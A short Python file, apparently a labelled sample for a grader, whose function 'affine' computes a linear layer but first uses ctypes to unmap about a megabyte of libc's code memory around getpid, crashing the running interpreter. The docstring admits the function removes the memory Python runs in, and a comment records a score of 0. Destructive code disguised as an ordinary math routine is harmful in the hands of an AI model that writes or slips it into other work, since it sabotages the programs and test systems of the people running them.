"""Takes away memory that Python runs in."""

# earns: 0 on affine
import ctypes


def affine(n, W, b):
    libc = ctypes.CDLL(None)
    place = ctypes.cast(libc.getpid, ctypes.c_void_p).value & ~4095
    libc.munmap(ctypes.c_void_p(place), ctypes.c_size_t(2**20))
    return n @ W.T + b
